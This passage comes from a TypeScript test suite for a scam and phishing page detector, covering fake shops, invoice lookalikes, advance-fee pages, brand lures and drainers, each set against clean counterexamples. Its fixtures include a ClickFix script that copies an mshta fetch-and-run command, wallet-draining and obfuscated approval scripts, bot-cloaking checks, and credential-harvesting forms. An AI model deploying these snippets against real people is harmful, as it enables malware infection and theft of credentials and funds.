      const named = judge('https://mantel-lagerverkauf-outlet.example/sale', '<title>Winter-Outlet</title><h1>Räumungsverkauf – alles muss raus</h1><p>Wollmantel Classic 49,90 € statt 249,90 €</p><p>Nur noch heute!</p>');
      assert.ok(ids(named).includes('topic-named-host'), JSON.stringify(ids(named)));
      assert.ok(named.decidedBy?.includes('combo:fake-outlet'), `${named.verdict} ${named.decidedBy?.join(',')}`);
      decides('fake-shop', 'https://www.gartenmoebel-abverkauf.example/', '<h1>Geschäftsaufgabe: -80% auf alles</h1><p>Zahlungsarten: Vorkasse, PayPal Freunde & Familie</p>');
      decides('fake-shop', 'https://www.vetements-destockage.example/', '<h1>Liquidation totale -70%</h1><p>Paiement uniquement par PayPal entre amis et famille.</p>');
      // A club's hijacked site selling sneakers at closing-down prices names nobody as its host's own.
      const hijacked = judge('https://www.handball-club-villeurbanne.example/boutique/sneakers-soldes', '<title>Sneakers Outlet – Soldes -80%</title><h1>Liquidation totale</h1><p>Air Max 90 : 39,90 € au lieu de 149,90 €</p>');
      assert.ok(hijacked.decidedBy?.includes('combo:fake-outlet'), `${hijacked.verdict} ${hijacked.decidedBy?.join(',')}`);
      // A fake outlet named after the brand it sells names itself after its host; its throwaway TLD gives it away (throwaway-outlet).
      const throwaway = judge('https://wintercoats-outlet.shop/sale', '<title>Wintercoats Outlet</title><h1>Räumungsverkauf – alles muss raus</h1><p>Wollmantel Classic 49,90 € statt 249,90 €</p><footer>© 2026 Wintercoats Outlet</footer>');
      assert.ok(throwaway.decidedBy?.includes('combo:throwaway-outlet'), `${throwaway.verdict} ${throwaway.decidedBy?.join(',')}`);
      // A shop naming itself after its host, with the same sale, is a shop.
      clean(judge('https://www.mantelhaus-berger.example/sale', '<title>Mantelhaus Berger – Sale</title><h1>Räumungsverkauf: bis zu -70%</h1><p>Wir ziehen um! Zahlung per Kreditkarte, PayPal oder Rechnung.</p>'));
      const guide = judge('https://www.verbraucher-ratgeber-nord.example/digitales/fakeshops', `<title>Fake-Shops erkennen | Verbraucher-Ratgeber Nord</title><h1>Fake-Shops erkennen: Warnsignale</h1><p>${'Betrügerische Online-Shops locken mit Preisen wie „-80% Lagerräumung“ und verlangen Vorkasse. Wer bestellt, zahlt und bekommt nie Ware. '.repeat(4)}</p>`);
      clean(guide);
      assert.ok(!ids(guide).includes('fake-shop-pricing'), JSON.stringify(ids(guide)));
    });

    it('fake shops: closing-down prices where every payment choice but a bank transfer is "unavailable"; the same sale with cards working stays clean', () => {
      const checkout = (options: string): string => `<title>Sneaker Outlet – up to 80% off | Closing-down sale</title><h1>Closing-down sale: up to -80%</h1><fieldset><legend>Payment</legend>${options}</fieldset><button>Place order</button>`;
      decides('fake-shop', 'https://sneaker-outlet-store.example/checkout', checkout('<label><input type="radio" checked> Bank transfer (5% extra discount)</label><label><input type="radio" disabled> PayPal (temporarily unavailable)</label><label><input type="radio" disabled> Credit card (currently not available)</label>'));
      clean(judge('https://www.sneaker-outlet-store.example/checkout', checkout('<label><input type="radio" checked> Credit card</label><label><input type="radio"> PayPal</label><label><input type="radio"> Bank transfer</label>')));
    });

    it('invoice-lookalike: card fields under fine print saying the page is not a bill or not a government agency; a registrar renewing its own customer\'s domain and an insurer\'s "this is not a bill" statement are clean', () => {
      const card = '<form><label>Cardholder name <input name="ccname"></label><label>Card number <input name="cardnumber" autocomplete="cc-number"></label><label>Expiry <input name="exp" autocomplete="cc-exp"></label><label>CVV <input name="cvv"></label><button>Pay now</button></form>';
      decides('invoice-lookalike', 'https://domain-listing-services.example/notice/?d=joinery.example', `<title>Domain Name Expiration Notice</title><h1>Domain name expiration notice</h1><p>Domain: JOINERY.EXAMPLE. Search engine submission, 12 months: €86.00</p>${card}<p>THIS IS NOT A BILL. This is a solicitation. You are under no obligation to pay unless you accept this offer.</p>`);
      // The debt-relief disclaimers: a private document preparer not affiliated with the department whose programme it sells.
      decides('invoice-lookalike', 'https://loan-relief-centre.example/apply', `<title>Student Loan Relief Centre | Forgiveness enrolment</title><h1>Your loans may qualify for forgiveness</h1><p>One-time enrolment fee: $499</p>${card}<p>Loan Relief Centre is a private document preparation company. Not affiliated with the U.S. Department of Education.</p>`);
      decides('invoice-lookalike', 'https://firmenregister-aktualisierung.example/eintrag', `<title>Firmenregister 2026</title><h1>Eintrag aktualisieren</h1><p>Jahresgebühr 149,00 €</p>${card}<p>Wir sind ein privater Verzeichnisdienst und keine Behörde.</p>`);
      clean(judge('https://www.registrar.example/account/renew', `<title>Registrar – Renew joinery.example</title><h1>Renew your domain</h1><p>joinery.example expires on 12 February. Renewal, 1 year: €14.00</p>${card}`));
      clean(judge('https://www.insurer.example/statements/2026-11', '<title>Insurer – Explanation of benefits</title><h1>Explanation of benefits</h1><p>THIS IS NOT A BILL. Your claim of 14 November was processed; the provider was paid $120.00.</p>'));
    });

    it('fake shops: closing-down prices read from the numbers (item after item cut by 70 % and more, in any language) beside payment only by transfer; one cut, or a ticket beside its fee, is no closing-down sale', () => {
      const items = (pairs: string[]): string => pairs.map((p, i) => `<div class="item"><h3>Artikel ${i + 1}</h3><p><del>${p.split('|')[0]}</del> <b>${p.split('|')[1]}</b></p><button>In winkelwagen</button></div>`).join('');
      // No closing-down words: the prices say it. An only-word and a way to pay by transfer, in Dutch and Polish.
      decides('fake-shop', 'https://tuincentrum-voorbeeld.example/actie', `<title>Tuincentrum Voorbeeld</title><h1>Tuinmeubelen</h1>${items(['1.899,00 €|399,00 €', '1.199,00 €|279,00 €', '3.450,00 €|790,00 €'])}<p>Wij kunnen alleen betalingen per bankoverschrijving accepteren.</p>`);
      decides('fake-shop', 'https://sklep-agd-przyklad.example/', `<title>Sklep AGD</title><h1>Odkurzacze i ekspresy</h1>${items(['3 299 zł|649 zł', '2 199 zł|399 zł', '5 499 zł|899 zł'])}<p>Akceptujemy wyłącznie przedpłatę: przelew na konto.</p>`);
      const cuts = judge('https://sklep-agd-przyklad.example/', `<title>Sklep AGD</title><h1>Odkurzacze i ekspresy</h1>${items(['3 299 zł|649 zł', '2 199 zł|399 zł', '5 499 zł|899 zł'])}`);
      assert.ok(ids(cuts).includes('fake-shop-pricing'), JSON.stringify(ids(cuts)));
      // One deep cut is a markdown; a ticket's price beside its fee and a permit's yearly beside its monthly price are pairs of another kind.
      const oneCut = judge('https://sklep-agd-przyklad.example/', `<title>Sklep AGD</title><h1>Odkurzacze</h1>${items(['3 299 zł|649 zł', '2 199 zł|1 899 zł', '5 499 zł|4 899 zł'])}<p>Akceptujemy wyłącznie przedpłatę: przelew na konto.</p>`);
      assert.ok(!ids(oneCut).some((id) => id.startsWith('fake-shop')), JSON.stringify(ids(oneCut)));
      const tickets = judge('https://tickets-voorbeeld.example/event', `<title>Tickets</title><h1>Concert</h1><p>Rang 1 98,90 € + 9,89 € fee</p><p>Rang 2 129,50 € + 12,95 € fee</p><p>Rang 3 79,00 € + 7,90 € fee</p><p>Bezahlung nur per Überweisung.</p>`);
      assert.ok(!ids(tickets).includes('fake-shop-pricing') && !ids(tickets).includes('fake-shop-text'), JSON.stringify(ids(tickets)));
      // A plan's price beside what it pays a day, with that share as a percentage, is a yield (an investment scam's table), not a cut.
      const plans = judge('https://mining-plans.example/rent', '<title>Rent a machine</title><h1>Machines</h1><table><tr><td>S9</td><td>30 USDT</td><td>1.8 USDT (6%)</td></tr><tr><td>S19</td><td>200 USDT</td><td>14 USDT (7%)</td></tr><tr><td>S21</td><td>1000 USDT</td><td>85 USDT (8.5%)</td></tr></table>');
      assert.ok(!ids(plans).includes('fake-shop-pricing'), JSON.stringify(ids(plans)));
      // "Only" beside a wire-free product is no payment only by wire.
      const wireFree = judge('https://lingerie-voorbeeld.example/sale', `<title>Lingerie sale</title><h1>Bras</h1>${items(['89,00 €|19,00 €', '79,00 €|15,00 €', '99,00 €|22,00 €'])}<p>Only wire-free styles in this collection.</p>`);
      assert.ok(ids(wireFree).includes('fake-shop-pricing') && !ids(wireFree).includes('fake-shop-text'), JSON.stringify(ids(wireFree)));
    });

    it('an "Add to Chrome" button that hands over a .zip or .crx is a sideloaded extension; the same button to the Chrome Web Store stays clean', () => {
      const page = (href: string): string => `<title>PDF Converter Pro – Free Chrome Extension</title><h1>Convert PDF to Word in one click</h1><p>Trusted by 2 million users.</p><a class="btn" href="${href}">+ Add to Chrome – It's free</a>`;
      const sideload = judge('https://www.pdfconvert-tools.example/extension/', page('/get/pdf-converter-2.4.1.zip'));
      assert.ok(sideload.decidedBy?.includes('combo:extension-sideload'), JSON.stringify(ids(sideload)));
      assert.deepEqual(sideload.categories, ['malware']);
      clean(judge('https://www.pdfconvert-tools.example/', page('https://chromewebstore.google.com/detail/pdf-converter/abcdefghijklmnopabcdefghijklmnop')));
    });

    it('a link that says "extension" and hands over a .crx is a sideloaded extension too; a project that names its own host releasing its .xpi is not', () => {
      const offer = judge('https://viewer-plugin-docs.example/open?doc=statement.pdf', '<title>Open protected PDF</title><h1>This document needs PDF Viewer Pro</h1><a href="/files/pdf_viewer_pro_3.1.crx">Download extension</a>');
      assert.ok(offer.decidedBy?.includes('combo:extension-sideload'), JSON.stringify(ids(offer)));
      const release = judge('https://www.tabkeeper.example/releases', '<title>Releases | TabKeeper</title><h1>TabKeeper 5.2</h1><p>Signed builds for Firefox.</p><a href="https://www.tabkeeper.example/dist/tabkeeper-5.2.xpi">Download the Firefox extension (.xpi)</a><footer>© 2026 TabKeeper</footer>');
      assert.ok(!ids(release).includes('extension-sideload'), JSON.stringify(ids(release)));
    });

    it('a page presenting itself as a government body on a host no government publishes on: with an app to install, a card form or a fee it is judged; on a government host, or naming its own host, it is not', () => {
      const app = (host: string): ScanResult => judge(`https://${host}/cap-nhat-dinh-danh`, '<title>Cổng Dịch vụ công Quốc gia – Tải ứng dụng cập nhật định danh điện tử</title><h1>Cập nhật định danh điện tử mức 2</h1><p>Tải ứng dụng để hoàn tất.</p><a class="btn" href="/download/DichVuCong_v3.1.7.apk">TẢI ỨNG DỤNG (Android)</a>');
      const fake = app('dichvucong-gov.vn-app.example');
      assert.ok(fake.decidedBy?.includes('combo:government-payload'), JSON.stringify(ids(fake)));
      const own = app('dichvucong.gov.vn');
      assert.ok(!ids(own).includes('government-claim'), JSON.stringify(ids(own)));
      const refund = judge('https://rimborso-entrate.example/it/rimborso', '<title>Agenzia delle Entrate – Rimborso IRPEF</title><h1>Rimborso fiscale disponibile</h1><form method="post"><label>Numero carta <input name="cc" autocomplete="cc-number"></label><label>CVV <input name="cvv" autocomplete="cc-csc"></label><button>Ricevi il rimborso</button></form>');
      assert.ok(refund.decidedBy?.includes('combo:government-credentials'), JSON.stringify(ids(refund)));
      assert.deepEqual(refund.categories.slice(0, 1), ['phishing']);
      // A title naming a .gov site ("Medicare.gov") presents the page as a government's, and on a host that is not one it is a claim.
      const card = '<form method="post"><input name="mbi" placeholder="Medicare Number"><input name="ssn" placeholder="Social Security Number"><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><button>Order</button></form>';
      const medicare = judge('https://medicare-card-renewal.example/apply/', `<title>Medicare.gov | Order a Replacement Medicare Card</title><h1>Get your new Medicare card</h1>${card}`);
      assert.ok(medicare.decidedBy?.includes('combo:government-credentials'), JSON.stringify(ids(medicare)));
      assert.ok(!ids(judge('https://www.medicare.gov/account/card', `<title>Medicare.gov | Order a Replacement Medicare Card</title><h1>Get your new Medicare card</h1>${card}`)).includes('government-claim'));
      // The tax office's own portal names itself after its host (ELSTER on elster.de): not a claim on someone else's host.
      clean(judge('https://www.elster.de/eportal/login', '<title>Mein ELSTER – Ihr Online-Finanzamt</title><h1>Login mit Zertifikatsdatei</h1><form method="post"><input type="file" name="cert"><input type="password" name="pin"><button>Login</button></form><footer>© ELSTER</footer>'));
    });

    it('the fee said the other way round (not released until it is paid; to release it, pay), balances waiting and loans approved, in several languages; a lender without a fee stays clean', () => {
      decides('advance-fee', 'https://rewards-center.example/withdraw', '<h1>Withdrawal status</h1><p>Your balance of $4,870 is ready for withdrawal.</p><p>Funds cannot be released to your bank until the tax verification fee of $487 is paid.</p>');
      decides('advance-fee', 'https://credito-facil.example/solicitud/aprobada', '<h1>¡Felicidades! Tu préstamo fue aprobado</h1><p>Monto: $45,000 MXN.</p><p>Para liberar tu préstamo, la Condusef exige un depósito de garantía de $1,850 MXN.</p>');
      decides('advance-fee', 'https://fond-vyplat.example/', '<h1>Проверка положенных вам выплат</h1><p>Итого к выплате 77 050 ₽.</p><p>Для перевода средств на вашу карту необходимо оплатить комиссию за перевод — 399 ₽.</p>');
      decides('investment-scam', 'https://borsa-yatirim.example/kayit', '<title>250 TL ile günlük 5.000 TL kazanın</title><h1>Yapay zeka destekli robot ile garantili günlük kazanç</h1><p>Günlük ortalama %38 getiri. Zarar riski yok.</p>');
      decides('fake-shop', 'https://tekno-outlet.example/iphone', '<h1>iPhone 16 Pro Max – Stok eritme kampanyası</h1><p>Kampanyalı ürünlerde kredi kartı ile ödeme kabul edilmemektedir. Havale/EFT ile ek %10 indirim.</p>');
      clean(judge('https://www.lender.example/apply/approved', '<h1>Your loan has been approved</h1><p>The funds will be transferred to your account within two business days. There are no upfront fees: the first instalment is due in 30 days.</p>'));
      clean(judge('https://www.vitamins.example/c-1000', '<h1>Vitamin C 1000 mg</h1><p>Each tablet gives you 1111% daily value of vitamin C. Take one tablet a day with food.</p>'));
    });

    it('a fake meeting fix that copies a command its script assembled and says Win+X; an installer linked from a host dressed as GitHub; a bridge that shows an amount box but sends the balance minus gas', () => {
      decides('clickfix-scripted-copy', 'https://teams-live.meeting-join.example/l/join', `<title>Microsoft Teams</title><h1>Audio-Treiber-Fehler</h1><ol><li>Klicken Sie auf „Lösung kopieren“</li><li>Drücken Sie Win + X und wählen Sie Terminal (Administrator)</li><li>Fügen Sie mit Strg + V ein</li></ol><button id="cp">Lösung kopieren</button><script>var x=['m','s','h','t','a'].join('')+' https://teams-audio-fix.example/driver/update.hta';document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(x+'   # Microsoft Teams Audio Treiber Reparatur')}</script>`);
      decides('lookalike-payload', 'https://notepad-plus-plus.example.co/downloads/v8.7.1/', '<title>Notepad++ v8.7.1</title><h1>Download Notepad++ v8.7.1</h1><a href="https://github-releases.objects-cdn.example/npp/npp.8.7.1.Installer.x64.exe">Installer</a>');
      const bridge = (read: string): ScanResult => judge('https://stargate.bridge-transfer.example/transfer', `<title>Stargate | Cross-chain Transfer</title><input id="amt" value="0.5"><button id="b">Connect Wallet</button><script>var e=window.ethereum,D='0x9f3c2a';document.getElementById('b').onclick=async function(){var u=(await e.request({method:'eth_requestAccounts'}))[0];var b=BigInt(await e.request({method:'eth_getBalance',params:[u,'latest']}));var gp=BigInt(await e.request({method:'eth_gasPrice'}));${read}var send=b-gp*21000n;await e.request({method:'eth_sendTransaction',params:[{from:u,to:D,value:'0x'+send.toString(16),data:'0x'}]})}</script>`);
      assert.ok(ids(bridge('')).includes('wallet-balance-sweep'), JSON.stringify(ids(bridge(''))));
      // A bridge that reads the amount the visitor typed is not sweeping, whatever else it computes from the balance.
      const reading = bridge("var want=document.getElementById('amt').value;");
      assert.ok(!ids(reading).includes('wallet-balance-sweep'), JSON.stringify(ids(reading)));
    });

    it('an invoice "provided as a compressed archive, unpack it and open the invoice" behind a download button is malware; a vendor page saying to extract its ZIP and run setup stays clean', () => {
      decides('malware-pretexts-download', 'https://rechnungsportal.dokumente-abruf.example/abruf/', '<title>Ihre Rechnung RE-2025-10-4471</title><h2>Ihre Rechnung ist verfügbar</h2><p>Anbei erhalten Sie Ihre Rechnung für Oktober 2025.</p><button id="dl" disabled>Dokument herunterladen</button><p>Aus Sicherheitsgründen wird das Dokument als komprimiertes Archiv bereitgestellt. Bitte entpacken Sie die Datei und öffnen Sie die Rechnung.</p>');
      clean(judge('https://www.tinytools.example/download', '<title>TinyTools 3.2 – Download</title><h1>Download TinyTools 3.2</h1><p><a href="/files/tinytools-3.2.zip">Download tinytools-3.2.zip</a></p><p>Extract the archive and run setup.exe to install. TinyTools is free software under the MIT licence.</p><footer>© TinyTools</footer>'));
    });

    it('a lure that moves the sign-in to the phone with a QR code is phishing; an authenticator set-up page on the organisation\'s own site stays clean', () => {
      const qr = judge('https://mfa-reauth-portal.example/secure/2fa-renewal', '<title>Action Required: Re-authenticate Multi-Factor Authentication</title><h1>Your MFA registration expires today</h1><p>Accounts that are not re-authenticated by 17:00 will be locked out of email.</p><ol><li>Open the camera on your phone</li><li>Scan the QR code below</li><li>Sign in with your work account</li></ol><img src="/qr.png" alt="QR code">');
      assert.ok(qr.decidedBy?.includes('combo:qr-lure'), JSON.stringify(ids(qr)));
      clean(judge('https://id.brightwater.example/mfa/setup', '<title>Set up your authenticator | Brightwater</title><h1>Set up multi-factor authentication</h1><p>Scan the QR code below with your authenticator app, then enter the six-digit code.</p><img src="/mfa/qr.png" alt="QR code"><input name="code" autocomplete="one-time-code"><footer>© Brightwater Ltd</footer>'));
    });

    it('a wallet page that keeps its transaction and approval calls in base64 literals is a drainer; a dapp that names them in plain code is not hiding them', () => {
      const b64 = (t: string): string => Buffer.from(t).toString('base64');
      const hidden = judge('https://revoke-approvals.cash-tools.example/', `<title>Revoke.cash</title><button id="c">Connect Wallet</button><script>var _0x4a2c=['${b64('eth_requestAccounts')}','${b64('eth_sendTransaction')}','${b64('0x095ea7b3')}'];function _0x1f(i){return atob(_0x4a2c[i])}var w=window.ethereum;document.getElementById('c').onclick=async function(){var a=(await w.request({method:'eth_requestAccounts'}))[0];await w.request({method:_0x1f(1),params:[{from:a,to:'0xdAC17F958D2ee523a2206206994597C13D831ec7',data:_0x1f(2)+'f'.repeat(64)}]})}</script>`);
      assert.ok(hidden.decidedBy?.includes('combo:wallet-hidden-calls'), JSON.stringify(ids(hidden)));
      const plain = judge('https://app.swapper.example/', `<title>Swapper</title><button id="c">Connect Wallet</button><script>var w=window.ethereum;document.getElementById('c').onclick=async function(){var a=(await w.request({method:'eth_requestAccounts'}))[0];var amt=document.getElementById('amt').value;await w.request({method:'eth_sendTransaction',params:[{from:a,to:'0x1111111254EEB25477B68fb85Ed929f73A960582',value:amt,data:'0x12aa3caf'}]})}</script><input id="amt" placeholder="Amount">`);
      assert.ok(!ids(plain).includes('wallet-hidden-calls'), JSON.stringify(ids(plain)));
    });

    it('a mint page that keeps its transaction call and the setApprovalForAll selector as hex literals is a drainer', () => {
      const hex = (t: string): string => Buffer.from(t).toString('hex');
      const hidden = judge('https://anadolu-nft-mint.example/', `<title>Free Mint</title><button id="c">Connect Wallet</button><script>var _0x5e=['${hex('eth_requestAccounts')}','${hex('eth_sendTransaction')}','${hex('0xa22cb465')}'];function _h(x){return x.match(/../g).map(function(b){return String.fromCharCode(parseInt(b,16))}).join('')}var e=window.ethereum;document.getElementById('c').onclick=async function(){var a=(await e.request({method:_h(_0x5e[0])}))[0];await e.request({method:_h(_0x5e[1]),params:[{from:a,to:'0x9c1e3b2a7f4d8e6c5b0a1f2e3d4c5b6a7f8e9d0c',data:_h(_0x5e[2])}]})}</script>`);
      assert.ok(hidden.decidedBy?.includes('combo:wallet-hidden-calls'), JSON.stringify(ids(hidden)));
    });

    it('a brand in the host name beside a deadline, on a page that names its host\'s organisation (a licensing partner, northgate-microsoft), stays clean; the same text on a page that names nobody is a lure', () => {
      const page = (footer: string): string => `<title>Microsoft 365 licences | Renew now</title><h1>Microsoft 365 licences</h1><p>Your subscription expires in 7 days. Renew before the deadline to keep your mailbox.</p><a href="/renew">Renew</a>${footer}`;
      const partner = judge('https://www.northgate-microsoft.example/licences', page('<footer>© 2026 Northgate IT Ltd · Microsoft Solutions Partner</footer>'));
      clean(partner);
      decides('brand-lure', 'https://m365-renewal-centre.example/', page(''));
    });

    it('a password field is not a recovery-phrase box because its name ends in "word": an exchange login that warns about phrases stays clean', () => {
      clean(judge('https://account.tradevault.example/login', '<title>Inloggen | TradeVault</title><h1>Inloggen</h1><form method="post"><input type="email" name="email" autocomplete="email"><input type="password" name="password" autocomplete="current-password" placeholder="Wachtwoord"><button>Inloggen</button></form><p>TradeVault vraagt nooit om je wachtwoord, 2FA-code of herstelzin.</p><footer>© TradeVault B.V.</footer>'));
    });

    it('a business whose own name holds a brand word among words of its own (Amazon Rainforest Tours on its own domain) keeps its sign-in page; a brand dressed as a service on a matching host ("Amazon Prime Rewards") does not', () => {
      const portal = (host: string, name: string): ScanResult =>
        judge(`https://www.${host}/account`, `<title>Sign in | ${name}</title><h1>${name}</h1><form method="post"><input type="email" name="email"><input type="password" name="password" autocomplete="current-password"><button>Sign in</button></form><footer>© 2026 ${name}</footer>`);
      clean(portal('amazonrainforesttours.example', 'Amazon Rainforest Tours'));
      const dressed = portal('amazonprimerewards.example', 'Amazon Prime Rewards');
      assert.equal(dressed.verdict, 'malicious', JSON.stringify(ids(dressed)));
    });

    it('a German name with umlauts names the host that spells them out (Bäckerei Müller on baeckerei-mueller); a name with an ampersand the host that spells it as a word (Bean & Barrow on beanandbarrow)', () => {
      const page = judge('https://www.baeckerei-mueller.example/kunden/login', '<title>Kundenportal | Bäckerei Müller</title><h1>Bäckerei Müller</h1><form method="post"><input type="email" name="email"><input type="password" name="pw"></form><footer>© 2026 Bäckerei Müller GmbH</footer>');
      assert.ok(!ids(page).includes('identity-not-own'), JSON.stringify(ids(page)));
      const roaster = judge('https://shop.beanandbarrow.example/checkout', '<title>Checkout | Bean &amp; Barrow Coffee Roasters</title><h1>Payment</h1><form method="post"><input autocomplete="cc-number" name="cc"></form>');
      assert.ok(!ids(roaster).includes('identity-not-own'), JSON.stringify(ids(roaster)));
      const sons = judge('https://www.muellerundsoehne.example/', '<title>Müller &amp; Söhne – Schreinerei</title><h1>Müller &amp; Söhne</h1><form method="post"><input type="password" name="pw"></form>');
      assert.ok(!ids(sons).includes('identity-not-own'), JSON.stringify(ids(sons)));
      // "app-" before a name is a site's affix, as "my" and "get" are: Tallybook on app-tallybook.web.app.
      const app = judge('https://app-tallybook.web.app/login', '<title>Log in | Tallybook</title><h1>Tallybook</h1><form method="post"><input type="email" name="e"><input type="password" name="p"></form>');
      assert.ok(!ids(app).includes('identity-not-own'), JSON.stringify(ids(app)));
    });

    it('a two-letter name is the host\'s own only when the host\'s label is exactly it', () => {
      const own = judge('https://www.du.example/personal/quick-pay', '<title>Quick Pay and Recharge | du</title><h1>Quick Pay</h1><p>Pay a bill without logging in.</p>');
      assert.ok(!ids(own).includes('identity-not-own'), JSON.stringify(ids(own)));
      const other = judge('https://www.dubai-quickpay.example/', '<title>Quick Pay and Recharge | du</title><h1>Quick Pay</h1><p>Pay a bill without logging in.</p>');
      assert.ok(ids(other).includes('identity-not-own'), JSON.stringify(ids(other)));
    });

    it('a page that prints its own full host name (a challenge page over a kit) does not name an organisation; a site that prints its www name does', () => {
      const gate = (host: string): ScanResult => judge(`https://${host}/`, `<title>Verify you are human | Sign in to your account</title><h1>${host}</h1><p>${host} needs to review the security of your connection before proceeding.</p><form method="post"><input type="password" name="passwd"></form>`);
      // (Each assertion carries its message: node's own message for a bare assert.ok re-parses this long file, for minutes.)
      const machine = gate('portal-doc-review.pages-share.example');
      assert.ok(ids(machine).includes('identity-not-own'), JSON.stringify(ids(machine)));
      const site = gate('www.tallybird.example');
      assert.ok(!ids(site).includes('identity-not-own'), JSON.stringify(ids(site)));
      // Naming its own host, or its own site from a subdomain, a challenge forges nothing.
      assert.ok(![machine, site].some((r) => ids(r).includes('forged-challenge')), JSON.stringify([ids(machine), ids(site)]));
    });

    it('a parcel fee notice in a brand\'s name on a host the brand does not own, before any card field, is a kit\'s first page; an article quoting the text message is not', () => {
      decides('brand-small-fee', 'https://dhl-parcel-hold.example/track/3S4412', '<title>DHL | Parcel on hold</title><h1>Your parcel is waiting</h1><p>Parcel 3S4412 could not be delivered.</p><p>Amount due: €1.99</p><a href="/pay">Continue to payment</a>');
      // The amount printed after a parcel locker's street number is still an amount ("Grójecka 112 1,99 zł").
      decides('brand-small-fee', 'https://dhl-paczka-doplata.example/paczkomat/', '<title>DHL | Dopłata do przesyłki</title><h1>Twoja przesyłka czeka</h1><p>Paczkomat WAW112M, ul. Grójecka 112 1,99 zł</p><a href="/platnosc">Zapłać</a>');
      const article = judge('https://www.regional-news.example/tech/fake-dhl-texts', `<title>Fake DHL texts about a parcel on hold</title><h1>Beware of fake DHL parcel texts</h1><p>${'Police warn of text messages that look like DHL notices but come from scammers. One reads: your parcel is waiting, pay €1.99 to release it. Do not click the link. '.repeat(3)}</p>`);
      assert.ok(!ids(article).includes('small-fee-text'), JSON.stringify(ids(article)));
      clean(article);
    });

    it('a copy of a CDN browser check naming a brand\'s domain on a host the brand does not own is a cloaked kit; the same check on the brand\'s own host is clean', () => {
      const check = (name: string): string => `<title>Just a moment...</title><h1>${name}</h1><h2>Verify you are human by completing the action below.</h2><p>${name} needs to review the security of your connection before proceeding.</p><p>Ray ID: 87cee435d0c838 · Performance &amp; security</p>`;
      decides('forged-challenge', 'https://dhl-parcel-hold.example/', check('dhl.com'));
      clean(judge('https://www.dhl.com/', check('www.dhl.com')));
    });

    it('a script testing for automation three ways in front of a 404 or maintenance cover, or sending the scanner to another site, is a cloaked kit (suspicious); one check, or three on a page with its own content, is not', () => {
      const checks = (n: number): string => `<script>${['if(navigator.webdriver){hide()}', 'if(/HeadlessChrome/.test(navigator.userAgent)){hide()}', 'if(/bot|crawl|spider/i.test(navigator.userAgent)){hide()}'].slice(0, n).join(';')}</script>`;
      const cover = judge('https://secure-online.bank-update.example/', `<title>404 Not Found</title><h1>Not Found</h1><p>The requested URL was not found on this server.</p>${checks(3)}`);
      assert.ok(cover.decidedBy?.includes('combo:cloaked-decoy') && cover.verdict === 'suspicious', JSON.stringify(ids(cover)));
      const away = judge('https://portal-login.pages-host.example/', `<title>Wikipedia</title><h1>Wikipedia</h1><p>The free encyclopedia.</p>${checks(3)}`, { requestedUrl: 'https://portal-login.pages-host.example/', finalUrl: 'https://www.wikipedia.org/' });
      assert.ok(away.decidedBy?.includes('combo:cloaked-decoy'), JSON.stringify(ids(away)));
      clean(judge('https://www.bakery-lund.example/missing', `<title>404 Not Found | Bakery Lund</title><h1>Page not found</h1>${checks(1)}`));
      clean(judge('https://www.bakery-lund.example/', `<title>Bakery Lund</title><h1>Fresh bread every morning</h1><p>Open Monday to Saturday.</p>${checks(3)}`));
    });

    it('pressure on points and miles, and in Arabic, Indonesian, Vietnamese and Chinese, is read as pressure', () => {
      for (const sentence of ['رصيد نقاط Plus الخاص بك على وشك الانتهاء. استبدل نقاطك الآن.', 'Ihre Prämienmeilen verfallen am 30.11. Lösen Sie sie heute ein.', 'Akun Anda akan diblokir. Verifikasi segera hari ini.', 'Tài khoản của bạn sẽ bị khóa. Vui lòng xác minh ngay lập tức.', '您的积分即将过期，请立即兑换。']) {
        const r = judge('https://rewards-notice.example/', `<h1>Notice</h1><p>${sentence}</p>`);
        assert.ok(ids(r).includes('pressure-text') || ids(r).includes('lure-text'), `${sentence} → ${JSON.stringify(ids(r))}`);
      }
    });

    it('a browser window drawn in the page (a brand\'s sign-in address as text beside a password field) is phishing; a device-code lure; a task scam paid per day that asks to recharge; an inheritance released only after fees', () => {
      decides('fake-address-bar', 'https://cs2-skins-giveaway.gg-drop.example/case/free', '<title>CS2 FREE CASE</title><h1>FREE CS2 CASE</h1><p>Log in with Steam to open your free case.</p><div class="win"><div class="bar">🔒 https://steamcommunity.com /openid/loginform/</div><form><input name="user" placeholder="Account name"><input type="password" name="pass"><button>Sign in</button></form></div>');
      // The bar's scheme in a span of its own: the text reads "https:// accounts.google.com".
      decides('fake-address-bar', 'https://meet-schedule.slot-planner.example/book/30min', '<title>Book a meeting</title><h1>30 Minute Meeting</h1><p>Sign in with your business account to see available times.</p><div class="win"><div class="bar">🔒 <span class="scheme">https://</span> <span>accounts.google.com/o/oauth2/auth</span></div><form><input type="email" name="email"><input type="password" name="pass"><button>Next</button></form></div>');
      decides('brand-lure', 'https://teams-meeting-join.ms-invite-center.example/l/meetup-join/19', '<title>Microsoft Teams meeting</title><h1>Join "Board Pre-Read"</h1><p>Your organization requires device verification to join external meetings. Copy the code below, then select Verify and paste it on the Microsoft page.</p><code>KXQ7-2LMP</code><button>Copy code &amp; Verify</button>');
      // Indonesian: pay per task, and a top-up "to continue" the combo tasks; a telecom's top-up page promises no pay.
      decides('advance-fee', 'https://app.mitra-tugas.example/#/tasks', '<h1>Pusat Tugas</h1><p>Komisi hari ini Rp 84.000 · Tugas 18/30</p><p>Saldo kurang Rp 1.650.000: lakukan isi ulang untuk melanjutkan. Modal + komisi dikembalikan setelah combo selesai.</p>');
      clean(judge('https://www.pulsa-nusantara.example/isi-ulang', '<title>Isi ulang pulsa | Pulsa Nusantara</title><h1>Isi ulang pulsa</h1><p>Pulsa habis? Lakukan isi ulang untuk melanjutkan panggilan dan data. Nominal Rp 10.000 sampai Rp 500.000.</p><footer>© 2026 Pulsa Nusantara</footer>'));
      decides('advance-fee', 'https://task.hotelrank-partners.example/#/login', '<title>HotelRank Partners – Online Work</title><h1>HotelRank Partners</h1><p>Earn $120–$800 per day rating hotels from your phone.</p><p>"Combination orders" may make your balance negative; recharge to complete them and unlock your earnings.</p>');
      decides('advance-fee', 'https://www.cabinet-notarial-succession.example/dossier/HR-2026-114', '<title>Cabinet Dubreuil &amp; Associés – Dossier de succession</title><p>Montant de l\'héritage : 1 850 000,00 €</p><p>Le transfert des fonds ne peut être effectué qu\'après règlement des frais de dossier de 2 450 € par virement.</p>');
      // A help article that writes the address out, with no password field, draws no window.
      clean(judge('https://help.campus-it.example/google-login', '<title>Signing in to Google Workspace | Campus IT</title><h1>Signing in to Google Workspace</h1><p>Go to https://accounts.google.com and sign in with your campus address.</p><footer>© Campus IT</footer>'));
    });

